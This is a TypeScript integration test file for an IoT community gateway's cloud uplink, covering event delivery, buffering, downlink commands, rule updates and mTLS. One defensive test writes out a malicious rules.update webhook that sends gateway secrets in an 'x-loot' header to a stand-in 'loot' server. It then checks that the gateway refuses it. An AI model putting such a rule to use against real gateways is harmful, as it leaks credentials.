import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { CloudEvent } from '@gridlink/protocol';
import { createTestCertificates } from '@gridlink/testkit';
import mqtt, { type MqttClient } from 'mqtt';
import { afterEach, describe, expect, it } from 'vitest';
import type { GatewayConfigInput } from '../config/schema.js';
import { InMemoryDirectory } from '../devices/directory.js';
import { Gateway } from '../gateway.js';
import { builtinRuleFile, builtinRules } from '../rules/templates.js';
import { silentLogger, testDataDir, testDevice, testGatewayConfig, testService } from '../test-support.js';
import { type CloudRow, startTestCloud, type TestCloudTls } from './test-cloud.js';

const PASSWORD = 'device-secret-1';
const GATEWAY = 'gw-uplink';
const cleanup: Array<() => Promise<unknown>> = [];
afterEach(async () => {
  for (const step of cleanup.splice(0).reverse()) await step();
});

async function system(
  uplink: Partial<NonNullable<GatewayConfigInput['uplink']>> = {},
  extra: Partial<GatewayConfigInput> = {},
  tls?: TestCloudTls,
) {
  const cloud = await startTestCloud(GATEWAY, tls ? { tls } : {});
  cleanup.push(() => cloud.stop());
  const directory = new InMemoryDirectory(
    [
      await testDevice('wm-1', 'water_meter', PASSWORD),
      await testDevice('wm-2', 'water_meter', PASSWORD),
      await testDevice('smoke-1', 'smoke_detector', PASSWORD),
      await testDevice('gas-1', 'gas_detector', PASSWORD),
      await testDevice('door-1', 'door_contact', PASSWORD),
    ],
    [await testService('installer', 'installer', PASSWORD)],
  );
  const config = testGatewayConfig({
    ...extra,
    gateway: { id: GATEWAY, community: '320803001001', data_dir: testDataDir() },
    uplink: {
      enabled: true,
      url: cloud.url,
      token: cloud.token,
      backoff_initial_ms: 50,
      backoff_max_ms: 400,
      request_timeout_ms: 2000,
      downlink_wait_s: 1,
      ...uplink,
    },
  });
  const gateway = new Gateway({ config, directory, logger: silentLogger() });
  await gateway.start();
  cleanup.push(() => gateway.stop());
  // A device's client id is its id; a service account's starts with svc-<username>.
  const connect = async (id: string, clientId = id) => {
    const client = await mqtt.connectAsync(`mqtt://127.0.0.1:${gateway.ports.tcp}`, {
      clientId,
      username: id,
      password: PASSWORD,
      reconnectPeriod: 0,
    });
    cleanup.push(() => client.endAsync(true));
    return client;
  };
  return { cloud, gateway, connect, directory };
}

const reading = (n: number, at = Date.parse('2026-11-25T08:00:00.000Z') + n) =>
  JSON.stringify({ ts: new Date(at).toISOString(), total_volume: n, interval_volume: 1, interval_s: 60 });

/** Publishes QoS1 readings one after another; resolves once each was acknowledged (PUBACK). */
async function publishReadings(device: MqttClient, id: string, from: number, count: number) {
  for (let n = from; n < from + count; n++)
    await device.publishAsync(`gridlink/${id}/event/reading`, reading(n), { qos: 1 });
}

const volumes = (rows: CloudRow[], device: string) =>
  rows
    .filter((row) => row.device_id === device && row.type === 'cn.gridlink.device.event.v1')
    .map((row) => {
      const payload = (row.data as { payload: { total_volume: number } }).payload;
      return payload.total_volume;
    });

/** Device events only: availability changes (a device connecting) travel too. */
const deviceEvents = async (cloud: { events(): Promise<CloudRow[]> }) =>
  (await cloud.events()).filter((row) => row.type === 'cn.gridlink.device.event.v1');

const range = (from: number, count: number) => Array.from({ length: count }, (_, i) => from + i);

describe('the uplink to a real cloud (PostgreSQL through the HTTP intake)', () => {
  it('delivers each acknowledged device event once, in each device’s order, urgent events as alarms', async () => {
    const { cloud, connect } = await system();
    const [wm1, wm2, smoke] = await Promise.all([connect('wm-1'), connect('wm-2'), connect('smoke-1')]);
    await Promise.all([publishReadings(wm1, 'wm-1', 0, 200), publishReadings(wm2, 'wm-2', 0, 200)]);
    await smoke.publishAsync('gridlink/smoke-1/event/alarm', JSON.stringify({ ts: new Date().toISOString() }), {
      qos: 1,
    });

    await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 20_000 }).toBe(401);
    const rows = await cloud.events();
    expect(volumes(rows, 'wm-1')).toEqual(range(0, 200));
    expect(volumes(rows, 'wm-2')).toEqual(range(0, 200));
    const seqs = rows.filter((row) => row.device_id === 'wm-1').map((row) => Number(row.device_seq));
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b)); // arrival order is sequence order
    expect(rows.find((row) => row.device_id === 'smoke-1')).toMatchObject({ priority: 'alarm', replayed: false });
    expect(new Set(rows.filter((row) => row.device_id === 'wm-1').map((row) => row.priority))).toEqual(
      new Set(['state']),
    );
  });

  it('sends the alerts the local rules raise with their alert id, and a discrete state change; the cloud opens an incident', async () => {
    const rules = join(testDataDir(), 'rules.yaml');
    writeFileSync(rules, builtinRuleFile());
    const { cloud, gateway, connect } = await system({}, { rules: { files: [rules] } });
    const [gas, door] = await Promise.all([connect('gas-1'), connect('door-1')]);
    await gas.publishAsync('gridlink/gas-1', JSON.stringify({ gas_lel: 35 }), { qos: 1 });
    await door.publishAsync('gridlink/door-1', JSON.stringify({ contact: 'open' }), { qos: 1 });

    await expect.poll(() => gateway.rules.active().length).toBe(1);
    const alertId = gateway.rules.active()[0]?.alert_id;
    await expect
      .poll(
        async () =>
          (await cloud.events())
            .filter((row) => row.priority !== 'telemetry') // the inventory and health reports
            .map((row) => row.type)
            .sort(),
        { timeout: 20_000 },
      )
      .toEqual([
        'cn.gridlink.alert.raised.v1',
        'cn.gridlink.device.availability.v1',
        'cn.gridlink.device.availability.v1',
        'cn.gridlink.device.state.v1',
      ]);
    const rows = await cloud.events();
    expect(rows.find((row) => row.type === 'cn.gridlink.alert.raised.v1')).toMatchObject({
      id: `${alertId}.raised`,
      priority: 'alarm',
      data: { alert_id: alertId, device_id: 'gas-1', severity: 'critical' },
    });
    expect(rows.find((row) => row.type === 'cn.gridlink.device.state.v1')?.data).toMatchObject({
      device_id: 'door-1',
      state: { contact: 'open' },
    });
    // …and in the cloud the alert became a grid incident that keeps the gateway's alert id.
    await expect
      .poll(
        async () =>
          (
            await cloud.query('SELECT state, category_code, urgent, source FROM incidents WHERE alert_id = $1', [
              alertId,
            ])
          )[0],
        { timeout: 10_000 },
      )
      // Urgent and from a device: the cloud accepts and files it at once; with nobody on the grid's
      // roster it waits there for the community's operators.
      .toEqual({ state: 'FILED', category_code: 'emergency.gas_leak', urgent: true, source: 'iot' });
  }, 30_000);

  it('sends the clear of an alert whose device the rule no longer selects, with reason device_deselected', async () => {
    const rules = join(testDataDir(), 'rules.yaml');
    writeFileSync(
      rules,
      `version: 1
rules:
  - id: elderly.gas
    name: { zh: 独居老人家燃气, en: Gas at an elderly resident's home }
    selector: { kinds: [gas_detector], tags: [elderly_alone] }
    condition: { type: threshold, field: gas_lel, op: '>=', value: 20, clear: { op: '<', value: 10 } }
    severity: critical
    category: emergency.gas_leak
    message: { zh: '{device_id} 燃气', en: 'Gas at {device_id}' }
`,
    );
    const { cloud, gateway, connect, directory } = await system({}, { rules: { files: [rules] } });
    const record = directory.device('gas-1');
    if (!record) throw new Error('gas-1 is provisioned above');
    directory.addDevice({ ...record, tags: ['elderly_alone'] });
    const gas = await connect('gas-1');
    await gas.publishAsync('gridlink/gas-1', JSON.stringify({ gas_lel: 35 }), { qos: 1 });
    await expect.poll(() => gateway.rules.active().length).toBe(1);
    const alertId = gateway.rules.active()[0]?.alert_id;

    // Untagged; the detector reconnects with its new record.
    directory.addDevice({ ...record, tags: [] });
    await gas.endAsync(true);
    await connect('gas-1');
    await expect
      .poll(async () => (await cloud.events()).find((row) => row.type === 'cn.gridlink.alert.cleared.v1'), {
        timeout: 20_000,
      })
      .toMatchObject({ id: `${alertId}.cleared`, data: { alert_id: alertId, reason: 'device_deselected' } });
    expect(gateway.rules.active()).toEqual([]);
  }, 30_000);

  it('keeps what arrives while the cloud is down and delivers it once it is back, marked as replayed; new alarms overtake the backlog', async () => {
    const { cloud, gateway, connect } = await system({ max_events_per_second: 400, batch_max_events: 50 });
    cloud.proxy.set({ kind: 'refuse' }, { cut: true });
    const [wm1, smoke] = await Promise.all([connect('wm-1'), connect('smoke-1')]);
    await publishReadings(wm1, 'wm-1', 0, 1500); // every one acknowledged while the cloud is away
    expect(gateway.uplink?.outbox.depth().state).toBe(1501); // and wm-1 coming online
    await expect.poll(() => gateway.uplink?.stats().sender.link).toBe('offline');

    cloud.proxy.set({ kind: 'pass' });
    await expect.poll(async () => (await cloud.events()).length, { timeout: 10_000 }).toBeGreaterThan(0);
    // The cloud may store a batch before the gateway has read its answer: only once the gateway
    // knows the link is back is a new event live (not replayed).
    await expect.poll(() => gateway.uplink?.stats().sender.link, { timeout: 10_000 }).toBe('online');
    // The drain is paced at 400 events/s: the backlog takes seconds; an alarm raised now goes first.
    await smoke.publishAsync('gridlink/smoke-1/event/alarm', JSON.stringify({ ts: new Date().toISOString() }), {
      qos: 1,
    });
    await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 30_000 }).toBe(1501);

    const rows = await deviceEvents(cloud);
    expect(volumes(rows, 'wm-1')).toEqual(range(0, 1500));
    expect(rows.filter((row) => row.device_id === 'wm-1').every((row) => row.replayed)).toBe(true);
    const alarmAt = rows.findIndex((row) => row.device_id === 'smoke-1');
    expect(rows[alarmAt]?.replayed).toBe(false);
    expect(alarmAt).toBeLessThan(rows.length - 100); // well before the backlog finished
    expect(gateway.uplink?.stats().sender.link).toBe('online');
    expect(gateway.uplink?.stats().sender.retries).toBeGreaterThan(0);
  }, 60_000);

  it('loses and doubles nothing through a slow, flapping link', async () => {
    const { cloud, gateway, connect } = await system({ request_timeout_ms: 300, batch_max_events: 40 });
    const wm1 = await connect('wm-1');
    let flaps = 0;
    const modes = [
      { kind: 'slow', delayMs: 120 },
      { kind: 'refuse' },
      { kind: 'pass' },
      { kind: 'blackhole' },
    ] as const;
    const flapper = setInterval(
      () => cloud.proxy.set(modes[flaps++ % modes.length] ?? { kind: 'pass' }, { cut: true }),
      150,
    );
    try {
      await publishReadings(wm1, 'wm-1', 0, 600);
      // The link keeps flapping for a counted number of flaps after the last reading, not for a while.
      const flapsAfter = flaps + 10;
      await expect.poll(() => flaps, { timeout: 10_000, interval: 20 }).toBeGreaterThanOrEqual(flapsAfter);
    } finally {
      clearInterval(flapper);
      cloud.proxy.set({ kind: 'pass' });
    }
    await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 30_000 }).toBe(600);
    expect(volumes(await cloud.events(), 'wm-1')).toEqual(range(0, 600));
    expect(gateway.uplink?.outbox.depth()).toEqual({ alarm: 0, state: 0, telemetry: 0 });
  }, 60_000);

  it('quarantines an event the cloud refuses, with the cloud’s error, and the events behind it still go', async () => {
    const { cloud, gateway, connect } = await system();
    const outbox = gateway.uplink?.outbox;
    if (!outbox) throw new Error('uplink expected');
    // An event this gateway's version builds but the cloud's schema refuses (as after a version skew).
    const poison = {
      specversion: '1.0',
      id: 'poison-1',
      source: `/gateways/${GATEWAY}/devices/wm-1`,
      type: 'cn.gridlink.device.state.v1',
      time: '2026-11-25T08:00:00.000Z',
      datacontenttype: 'application/json',
      data: { device_id: 'wm-1', device_kind: 'water_meter', state: {}, colour: 'red' },
      gatewayid: GATEWAY,
      deviceid: 'wm-1',
      priority: 'state',
    } as unknown as CloudEvent;
    await outbox.append(poison);
    const wm1 = await connect('wm-1');
    await publishReadings(wm1, 'wm-1', 0, 20);

    await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 20_000 }).toBe(20);
    expect(outbox.quarantined()).toEqual([
      expect.objectContaining({ id: 'poison-1', error: expect.stringContaining('data.colour: unexpected field') }),
    ]);

    // An installer asks over MQTT, and can send it again (the cloud refuses it again here).
    const installer = await connect('installer', 'svc-installer');
    const answers: Array<{ status: string; data: Record<string, unknown> }> = [];
    installer.on('message', (_topic, payload) => answers.push(JSON.parse(payload.toString())));
    await installer.subscribeAsync('gridlink/bridge/response/outbox/#');
    await installer.publishAsync('gridlink/bridge/request/outbox/quarantined', '{"transaction":"t1"}');
    await expect.poll(() => answers.length).toBe(1);
    expect(answers[0]?.data.events).toEqual([expect.objectContaining({ id: 'poison-1' })]);
    await installer.publishAsync('gridlink/bridge/request/outbox/resend', '{"transaction":"t2"}');
    await expect.poll(() => answers.length).toBe(2);
    expect(answers[1]).toMatchObject({ status: 'ok', data: { resent: 1 } });
    await expect.poll(() => gateway.uplink?.stats().sender.quarantined, { timeout: 10_000 }).toBe(2);
    expect(outbox.quarantined().map((event) => event.id)).toEqual(['poison-1']);
  }, 30_000);

  it('applies cloud commands once, even when the cloud delivers them again, and acknowledges them', async () => {
    const { cloud, gateway, connect } = await system();
    const wm1 = await connect('wm-1');
    const commands: string[] = [];
    wm1.on('message', (_topic, payload) => commands.push(payload.toString()));
    await wm1.subscribeAsync('gridlink/wm-1/set', { qos: 1 });
    const command = {
      id: 'dl-cmd-1',
      created_at: '2026-11-25T08:00:00.000Z',
      type: 'device.command' as const,
      data: { device_id: 'wm-1', command: { valve: 'close' } },
    };
    await cloud.cloud.enqueueDownlink(GATEWAY, command);
    await expect.poll(() => commands, { timeout: 10_000 }).toEqual(['{"valve":"close"}']);
    await expect
      .poll(async () => (await cloud.query('SELECT result FROM downlink WHERE id = $1', ['dl-cmd-1']))[0]?.result, {
        timeout: 10_000,
      })
      .toBe('applied');

    // The cloud sends it again (say its record of the ack was lost): acknowledged as a duplicate, not applied.
    await cloud.query('UPDATE downlink SET acked_at = NULL, result = NULL WHERE id = $1', ['dl-cmd-1']);
    await expect
      .poll(async () => (await cloud.query('SELECT result FROM downlink WHERE id = $1', ['dl-cmd-1']))[0]?.result, {
        timeout: 10_000,
      })
      .toBe('duplicate');
    expect(commands).toHaveLength(1);

    // A command the device's profile does not know is rejected with the reason, and not retried.
    await cloud.cloud.enqueueDownlink(GATEWAY, {
      ...command,
      id: 'dl-cmd-2',
      data: { device_id: 'wm-1', command: { valve: 'half' } },
    });
    await expect
      .poll(async () => (await cloud.query('SELECT result, error FROM downlink WHERE id = $1', ['dl-cmd-2']))[0], {
        timeout: 10_000,
      })
      .toMatchObject({ result: 'rejected', error: expect.stringContaining('valve') });
    expect(gateway.uplink?.stats().downlink).toEqual({ applied: 1, rejected: 1 });
  }, 30_000);

  it('refuses a device’s publish (no PUBACK) when the outbox is full of what must not be dropped, and takes it once the backlog drains', async () => {
    const { cloud, gateway, connect } = await system({ quota_bytes: 1_048_576 });
    cloud.proxy.set({ kind: 'refuse' }, { cut: true });
    const smoke = await connect('smoke-1');
    const alarm = (n: number) =>
      JSON.stringify({ ts: new Date(Date.parse('2026-11-25T08:00:00.000Z') + n).toISOString(), smoke_density: 1 });
    let refusedAt = -1;
    // mqtt.js leaves a QoS1 publish pending when the connection closes under it: watch the close.
    const closed = new Promise<void>((resolve) => smoke.once('close', resolve));
    for (let n = 0; n < 20_000 && refusedAt < 0; n++) {
      const acked = smoke.publishAsync('gridlink/smoke-1/event/alarm', alarm(n), { qos: 1 }).then(() => true);
      if (!(await Promise.race([acked, closed.then(() => false)]))) refusedAt = n;
    }
    expect(refusedAt).toBeGreaterThan(100);
    expect(smoke.connected).toBe(false); // refused at the protocol level: disconnected, not acknowledged
    expect(gateway.stats().refused['publish:not_stored']).toBeGreaterThan(0);
    const stored = gateway.uplink?.outbox.depth().alarm ?? 0;
    expect(stored).toBe(refusedAt);

    // The cloud comes back, the backlog drains, and the device's alarm is taken on its next try.
    cloud.proxy.set({ kind: 'pass' });
    await expect.poll(() => gateway.uplink?.outbox.depth().alarm, { timeout: 30_000 }).toBe(0);
    const again = await connect('smoke-1');
    await again.publishAsync('gridlink/smoke-1/event/alarm', alarm(refusedAt), { qos: 1 });
    await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 20_000 }).toBe(refusedAt + 1);
  }, 60_000);

  it('installs a rule set the cloud sends (checked by its sha256 and parsed before it replaces anything)', async () => {
    const { cloud, gateway } = await system();
    const yaml = builtinRuleFile();
    const message = (id: string, rules: string, sha256: string) => ({
      id,
      created_at: '2026-11-25T08:00:00.000Z',
      type: 'rules.update' as const,
      data: { version: 1, sha256, rules_yaml: rules },
    });
    const sha = (text: string) => createHash('sha256').update(text).digest('hex');
    const result = async (id: string) =>
      (
        await cloud.query<{ result: string; error: string | null }>(
          'SELECT result, error FROM downlink WHERE id = $1',
          [id],
        )
      )[0];

    await cloud.cloud.enqueueDownlink(GATEWAY, message('rules-bad-sum', yaml, sha('something else')));
    await cloud.cloud.enqueueDownlink(
      GATEWAY,
      message('rules-broken', 'version: 1\nrules: [{ id: 1 }]\n', sha('version: 1\nrules: [{ id: 1 }]\n')),
    );
    await cloud.cloud.enqueueDownlink(GATEWAY, message('rules-good', yaml, sha(yaml)));
    await expect.poll(async () => (await result('rules-good'))?.result, { timeout: 10_000 }).toBe('applied');
    expect(await result('rules-bad-sum')).toMatchObject({
      result: 'rejected',
      error: expect.stringContaining('sha256 mismatch'),
    });
    expect(await result('rules-broken')).toMatchObject({
      result: 'rejected',
      error: expect.stringContaining('cloud rules'),
    });
    expect(gateway.rules.reload()).toEqual({ ok: true, rules: builtinRules().length });
  }, 30_000);

  it('attack: a rules.update installing a webhook that sends the gateway’s secrets to a LAN host is refused, and the refusal reported to the cloud', async () => {
    // A loopback server stands in for a host on the community LAN that nobody listed.
    const hits: string[] = [];
    const loot = createServer((req, res) => {
      hits.push(`${req.url} ${JSON.stringify(req.headers)}`);
      req.resume();
      res.writeHead(204).end();
    });
    await new Promise<void>((resolve) => loot.listen(0, '127.0.0.1', resolve));
    cleanup.push(() => new Promise((resolve) => loot.close(resolve)));
    const port = (loot.address() as AddressInfo).port;
    process.env.GRIDLINK_TEST_CAMERA_PASSWORD = 'camera-password-1';
    cleanup.push(async () => delete process.env.GRIDLINK_TEST_CAMERA_PASSWORD);
    const { cloud, gateway, connect } = await system(
      {},
      { rules: { webhook_targets: ['https://property.example.cn/hooks/'], webhook_secrets: ['PROPERTY_HOOK_TOKEN'] } },
    );
    const rulesYaml = (url: string, header: string) =>
      [
        'version: 1',
        'rules:',
        '  - id: smoke.exfiltrate',
        '    name: { zh: 烟感, en: Smoke }',
        '    selector: { kinds: [smoke_detector] }',
        '    condition: { type: event, event: alarm }',
        '    severity: major',
        '    category: other',
        "    message: { zh: '{device_id}', en: '{device_id}' }",
        '    actions:',
        `      - { type: webhook, url: '${url}', headers: { x-loot: '${header}' } }`,
        '',
      ].join('\n');
    const send = async (id: string, yaml: string) => {
      const sha256 = createHash('sha256').update(yaml).digest('hex');
      await cloud.cloud.enqueueDownlink(GATEWAY, {
        id,
        created_at: '2026-11-25T08:00:00.000Z',
        type: 'rules.update',
        data: { version: 1, sha256, rules_yaml: yaml },
      });
    };
    const result = async (id: string) =>
      (
        await cloud.query<{ result: string; error: string | null }>(
          'SELECT result, error FROM downlink WHERE id = $1',
          [id],
        )
      )[0];

    await send('rules-loot-target', rulesYaml(`http://127.0.0.1:${port}/loot`, `\${PROPERTY_HOOK_TOKEN}`));
    await send(
      'rules-loot-secret',
      rulesYaml('https://property.example.cn/hooks/alarm', `x \${GRIDLINK_TEST_CAMERA_PASSWORD}`),
    );
    await expect.poll(async () => (await result('rules-loot-secret'))?.result, { timeout: 10_000 }).toBe('rejected');
    expect(await result('rules-loot-target')).toEqual({
      result: 'rejected',
      error: `cloud rules: rules.0.actions.0.url: http://127.0.0.1:${port}/loot (rule smoke.exfiltrate) is not a webhook target of this gateway: the installer lists the URLs webhooks may post to in the gateway's rules.webhook_targets (1 listed)`,
    });
    expect(await result('rules-loot-secret')).toEqual({
      result: 'rejected',
      error:
        'cloud rules: rules.0.actions.0.headers.x-loot: $' +
        "{GRIDLINK_TEST_CAMERA_PASSWORD} (rule smoke.exfiltrate) is not a webhook secret of this gateway: only variables the installer lists in the gateway's rules.webhook_secrets may be sent",
    });
    // Neither set is in force, nor kept to be loaded later: an alarm raises nothing and posts nothing.
    expect(gateway.rules.reload()).toEqual({ ok: true, rules: 0 });
    const smoke = await connect('smoke-1');
    await smoke.publishAsync('gridlink/smoke-1/event/alarm', JSON.stringify({ ts: new Date().toISOString() }), {
      qos: 1,
    });
    await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 20_000 }).toBe(1);
    expect(gateway.rules.active()).toEqual([]);
    expect(hits).toEqual([]);
  }, 30_000);

  it('exports the outbox, the link and the downlink as Prometheus metrics', async () => {
    const { cloud, gateway, connect } = await system();
    cloud.proxy.set({ kind: 'refuse' }, { cut: true });
    const wm1 = await connect('wm-1');
    await publishReadings(wm1, 'wm-1', 0, 5);
    await expect.poll(() => gateway.uplink?.stats().sender.link).toBe('offline');
    const metrics = await (await fetch(`http://127.0.0.1:${gateway.ports.http}/metrics`)).text();
    expect(metrics).toContain('gridlink_uplink_outbox_events{class="state"} 6');
    expect(metrics).toContain('gridlink_uplink_link_state{state="offline"} 1');
    expect(metrics).toMatch(/gridlink_uplink_retries_total [1-9]/);
    expect(metrics).toMatch(/gridlink_uplink_outbox_oldest_age_seconds\{class="state"\} \d/);
    expect(metrics).toContain('gridlink_uplink_telemetry_dropped_total 0');
  }, 30_000);

  describe('over TLS with client certificates (mTLS on top of the token)', () => {
    const certificates = createTestCertificates([GATEWAY, 'gw-someone-else']);
    const tls: TestCloudTls = { ...certificates.server, ca: certificates.ca, clientCertificates: 'required' };
    const client = (name: string) => ({
      ca_file: certificates.ca,
      cert_file: certificates.clients[name]?.cert,
      key_file: certificates.clients[name]?.key,
    });
    const alarm = JSON.stringify({ ts: '2026-11-25T08:00:00.000Z' });

    it('delivers with the gateway’s own certificate', async () => {
      const { cloud, connect } = await system(client(GATEWAY), {}, tls);
      const smoke = await connect('smoke-1');
      await smoke.publishAsync('gridlink/smoke-1/event/alarm', alarm, { qos: 1 });
      await expect.poll(async () => (await deviceEvents(cloud)).length, { timeout: 10_000 }).toBe(1);
    }, 30_000);

    it('is refused without a certificate, or with another gateway’s, and keeps the events', async () => {
      for (const uplink of [{ ca_file: certificates.ca }, client('gw-someone-else')]) {
        const { cloud, gateway, connect } = await system(uplink, {}, tls);
        const smoke = await connect('smoke-1');
        await smoke.publishAsync('gridlink/smoke-1/event/alarm', alarm, { qos: 1 });
        await expect.poll(() => gateway.uplink?.stats().sender.link, { timeout: 10_000 }).toBe('unauthorized');
        expect(gateway.uplink?.stats().sender.lastError).toMatch(/HTTP 40[13] GL_(UNAUTHENTICATED|FORBIDDEN)/);
        expect(await deviceEvents(cloud)).toEqual([]);
        expect(gateway.uplink?.outbox.depth().alarm).toBe(1);
        for (const step of cleanup.splice(0).reverse()) await step();
      }
    }, 30_000);

    it('verifies the cloud’s certificate by default: an unknown CA is not trusted', async () => {
      const { cloud, gateway, connect } = await system(
        { cert_file: client(GATEWAY).cert_file, key_file: client(GATEWAY).key_file },
        {},
        tls,
      );
      const smoke = await connect('smoke-1');
      await smoke.publishAsync('gridlink/smoke-1/event/alarm', alarm, { qos: 1 });
      await expect.poll(() => gateway.uplink?.stats().sender.lastError, { timeout: 10_000 }).toMatch(/certificate/);
      expect(gateway.uplink?.stats().sender.link).toBe('offline');
      expect(await deviceEvents(cloud)).toEqual([]);
    }, 30_000);
  });
});
